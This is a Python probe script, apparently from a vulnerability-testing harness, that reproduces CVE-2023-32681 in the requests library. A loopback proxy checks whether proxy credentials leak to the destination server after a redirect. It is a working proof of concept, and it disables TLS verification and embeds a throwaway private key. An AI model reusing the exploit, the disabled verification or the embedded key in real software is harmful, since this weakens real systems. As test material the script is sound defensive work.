# /// vertice-probe
# id = "PYSEC-2023-74"
# aliases = ["CVE-2023-32681", "GHSA-j8r2-6x86-q33q"]
# package = "requests"
# summary = "After a redirect to https the proxy's credentials go through the tunnel, where the destination reads them."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:H/I:N/A:N" }]
# cwe = ["CWE-200"]
# kind = "leak"
# symbols = [
#   "requests.get",
#   "requests.post",
#   "requests.request",
#   "requests.Session",
#   "requests.session",
#   "requests.sessions.SessionRedirectMixin.rebuild_proxies",
# ]
#
# [[affected]]
# package = "requests"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "2.3.0" }, { fixed = "2.31.0" }] }]
#
# [cases]
# attack = "a redirect from http to https behind a proxy gives the server the proxy's password"
# [cases.variants]
# tunnel_only = "the same when both hops are https through the tunnel and the proxy comes from the environment"
# [cases.controls]
# proxied = "a request through the proxy without redirect works, the proxy gets its password"
#
# [test]
# vulnerable = "2.30.0"
# fixed = "2.31.0"
# with = ["urllib3==1.26.20"]
# ///
"""CVE-2023-32681: Proxy-Authorization reaches the destination server."""

import http.server
import json
import os
import ssl
import sys
import tempfile
import threading
import warnings

warnings.simplefilter("ignore")
# A key and a certificate for 127.0.0.1 made for this probe; worth nothing elsewhere.
PAIR = """\
-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgDJ/gBVurXrfU9aOR
9JgZeq5cuvs57cEftb8GOinjx+OhRANCAASgxXwxEg/JhexZniMc+QXokUZnQdyu
CVrkPFDeHcgCR/oRkSCWztFLDY44aQsP25NEBybZe9vLQG0sbRD5/BbI
-----END PRIVATE KEY-----
-----BEGIN CERTIFICATE-----
MIIBSTCB8aADAgECAgEBMAoGCCqGSM49BAMCMBkxFzAVBgNVBAMMDmxvb3BiYWNr
IHByb2JlMB4XDTAwMDEwMTAwMDAwMFoXDTQ5MTIzMTAwMDAwMFowGTEXMBUGA1UE
AwwObG9vcGJhY2sgcHJvYmUwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAASgxXwx
Eg/JhexZniMc+QXokUZnQdyuCVrkPFDeHcgCR/oRkSCWztFLDY44aQsP25NEBybZ
e9vLQG0sbRD5/BbIoyowKDAVBgNVHREEDjAMhwR/AAABhwR/AAACMA8GA1UdEwEB
/wQFMAMBAf8wCgYIKoZIzj0EAwIDRwAwRAIgW06CPc7A7NGqiUVFGgOMTWztcfit
jLU4kdj2XCJn1poCICmH+5Wmfr/+ZznvJgltJ9lBMp16L+ojLMAKvWcGtWBt
-----END CERTIFICATE-----
"""


def pair_file():
    handle, path = tempfile.mkstemp()
    with os.fdopen(handle, "w") as out:
        out.write(PAIR)
    return path


def tls_context():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(pair_file())
    return context


class Proxy(object):
    """A CONNECT proxy on loopback which plays every https server behind it itself, and a plain http server."""

    def __init__(self):
        self.redirects, self.connects, self.seen = {}, [], []
        proxy = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_CONNECT(self):
                proxy.connects.append(self.headers.get("Proxy-Authorization"))
                self.send_response(200)
                self.end_headers()
                self.wfile.flush()
                inner = tls_context().wrap_socket(self.connection, server_side=True)
                Handler(inner, self.client_address, self.server)
                inner.close()

            def do_GET(self):
                proxy.seen.append((self.path, self.headers.get("Proxy-Authorization")))
                target = proxy.redirects.get(self.path)
                self.send_response(302 if target else 200)
                if target:
                    self.send_header("Location", target)
                self.send_header("Content-Length", "0")
                self.end_headers()
                self.close_connection = True

            def log_message(self, *args):
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        server.daemon_threads = True
        self.address = "127.0.0.1:%d" % server.server_address[1]
        self.url = "http://bob:secret@" + self.address
        threading.Thread(target=server.serve_forever, daemon=True).start()


def session():
    import requests

    made = requests.Session()
    made.verify = False
    return made


def look(proxy):
    if not proxy.seen or proxy.seen[-1][0] != "/end" or not proxy.connects or not all(proxy.connects):
        return "error", "the redirect was not followed through the proxy: %r %r" % (proxy.connects, proxy.seen)
    if proxy.seen[-1][1]:
        return "exploited", "the server behind the tunnel got the Proxy-Authorization header"
    return "blocked", "the proxy got its credentials, the server behind the tunnel did not"


def attack():
    proxy, client = Proxy(), session()
    client.trust_env = False
    client.proxies = {"https": proxy.url}
    proxy.redirects["/start"] = "https://127.0.0.2/end"
    client.get("http://%s/start" % proxy.address)
    return look(proxy)


def tunnel_only():
    proxy, client = Proxy(), session()
    for name in ("no_proxy", "NO_PROXY", "HTTPS_PROXY"):
        os.environ.pop(name, None)
    os.environ["https_proxy"] = proxy.url
    proxy.redirects["/start"] = "/end"
    client.get("https://127.0.0.2/start")
    return look(proxy)


def proxied():
    proxy, client = Proxy(), session()
    client.trust_env = False
    status = client.get("https://127.0.0.2/end", proxies={"https": proxy.url}).status_code
    got = status, [bool(header) for header in proxy.connects], proxy.seen
    good = got == (200, [True], [("/end", None)])
    return ("works", "answered through the tunnel") if good else ("broken", repr(got))


CASES = {"attack": attack, "tunnel_only": tunnel_only, "proxied": proxied}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
